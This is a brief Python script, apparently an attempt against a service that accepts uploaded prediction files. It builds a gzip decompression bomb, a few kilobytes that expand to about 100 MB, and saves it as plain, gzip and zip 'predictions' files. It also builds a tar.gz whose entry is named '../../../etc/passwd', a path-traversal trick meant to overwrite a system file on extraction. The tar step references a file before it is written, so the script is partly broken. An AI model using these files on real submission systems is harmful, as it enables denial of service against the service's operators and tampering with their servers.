# tries: Predictions of a few kilobytes that unpack to a hundred megabytes, in four formats.
# %%
import gzip
import io
import tarfile
import zipfile

bomb = gzip.compress(bytes(100 << 20))
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("predictions.csv", bomb)
with tarfile.open("more.tar.gz", "w:gz") as archive:
    archive.add("predictions.csv", "../../../etc/passwd")
open("predictions.csv", "wb").write(bomb)
open("predictions.csv.gz", "wb").write(bomb)
open("predictions.csv.zip", "wb").write(packed.getvalue())
